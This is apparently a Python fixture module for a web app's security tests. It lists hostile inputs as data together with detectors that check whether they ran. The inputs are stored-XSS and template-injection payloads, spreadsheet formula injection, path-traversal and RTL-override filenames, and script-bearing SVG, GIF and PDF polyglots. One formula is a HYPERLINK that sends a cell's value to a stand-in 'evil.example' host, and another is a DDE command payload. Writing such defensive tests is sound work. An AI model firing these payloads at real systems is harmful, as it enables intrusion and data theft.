"""A corpus of hostile input, as data: what people (or scripts, or a pasted document) may send, and how to tell
from a response that it did no harm. tests/security/hostile_input/ goes with it through every form.

Each value is small enough for the shortest field it goes into (a person's name: 50 characters) once a short
tag is put in front of it, so that every page can be searched for exactly the value saved in one field.
"""

import io
import re
import zipfile
from dataclasses import dataclass

from markupsafe import escape

# --- stored XSS and template injection -------------------------------------------------------------------


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # What must never be in a page: the payload as markup the browser would run ("" when the only danger is
    # a javascript: URL in an attribute, or a template evaluating it).
    live: str

    def value(self, tag: str) -> str:
        return f"{tag}{self.text}"

    def shown(self, tag: str) -> str:
        """How the value appears in HTML when it is escaped."""
        return str(escape(self.value(tag)))


XSS = [
    Payload("script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    Payload("img", '"><img src=x onerror=alert(1)>', "<img src=x onerror=alert(1)>"),
    Payload("js_url", "javascript:alert(1)//", ""),
    Payload("template", "{{7*7}}${7*7}", ""),
]
LIVE_URL = re.compile(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)

# Spreadsheet formulas (CSV / formula injection): a cell that came from a person must never become a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
            "=cmd|' /C calc'!A0"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def dangers(html: str, payload: Payload, tag: str) -> list[str]:
    """Everything in `html` that shows the payload ran, or would run, instead of being shown as text."""
    found = []
    if payload.name == "template" and f"{tag}49" in html:
        found.append(f"{tag}: {{{{7*7}}}} was evaluated")
    if payload.live and payload.live in html:
        found.append(f"{tag}: unescaped {payload.live!r}")
    if LIVE_URL.search(html):
        found.append(f"{tag}: a javascript: URL in an attribute")
    return found


# --- bad text --------------------------------------------------------------------------------------------

# Invisible control and formatting characters: kept out of what is stored (the text around them stays).
CONTROLS = {
    "nul": ("甲\x00乙", "甲乙"),
    "escape": ("甲\x1b[31m乙", "甲[31m乙"),
    "rtl_override": ("报告\u202egpj.exe", "报告gpj.exe"),
    "bell_and_del": ("甲\x07乙\x7f丙", "甲乙丙"),
}
# Must be stored and shown back exactly as typed.
UNICODE = {
    "emoji": "点赞👍🏫 全家👨‍👩‍👧 国旗🇨🇳",
    "mixed_scripts": "繁體與简体混排：學校/学校、發展/发展",
    "rare_han": "𠀀𪚥 生僻字",
}
# A megabyte (past what the form parser takes in one field) and a long paste (within it, past every field's limit).
MEGABYTE = "超长" + "x" * 2**20
LONG = "长" * 20_000
FULL_WIDTH_DIGITS = {"６０": 60, "２５": 25, "１００％": 100}
BAD_DATES = ["2026-02-30", "二〇二六年十二月三十一日", "2026-13-01", "9999999-01-01", "１７/０５/２０２６",
             "0000-00-00"]
INVALID_UTF8 = [b"\xff\xfe", b"\xc3\x28", b"\xe4\xb8", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"]

CHINESE = re.compile(r"[\u4e00-\u9fff]")


def has_chinese(text: str) -> bool:
    return bool(CHINESE.search(text))


# --- uploads ---------------------------------------------------------------------------------------------

SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>")
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
# A GIF header followed by script: a browser sniffing it would find HTML (GIFAR-style polyglot).
GIF_POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=0;<script>alert(1)</script><!--" + b"\x00" * 32
# A PDF that is also HTML.
PDF_POLYGLOT = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"


def truncated_docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document>" + "一、加强党的建设" * 200)
    return out.getvalue()[: len(out.getvalue()) // 2]


TRUNCATED_PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pa"

# (name, content, content type) uploads refused as evidence, each with a Chinese message.
REFUSED_EVIDENCE = {
    "svg_with_script": ("图标.svg", SVG, "image/svg+xml"),
    "html_renamed_jpg": ("现场照片.jpg", HTML, "image/jpeg"),
    "empty": ("空文件.jpg", b"", "image/jpeg"),
    "svg_as_png": ("截图.png", SVG, "image/png"),
}
# (name, content) plan imports refused, each with a Chinese message.
REFUSED_PLANS = {
    "svg_with_script": ("工作要点.svg", SVG),
    "html_renamed_jpg": ("工作要点.jpg", HTML),
    "empty": ("工作要点.txt", b""),
    "truncated_docx": ("工作要点.docx", truncated_docx()),
    "truncated_pdf": ("工作要点.pdf", TRUNCATED_PDF),
    "binary": ("工作要点.txt", bytes(range(256)) * 8),
}
HOSTILE_FILENAMES = {
    "unix_traversal": "../../etc/passwd",
    "windows_traversal": "..\\..\\win.ini",
    "nul": "照片\x00.php.png",
    "long": "很" * 300 + ".png",
    "rtl_override": "照片\u202egnp.exe",
    "absolute": "/etc/cron.d/evil.png",
    "xss": "<img src=x onerror=alert(1)>.png",
}
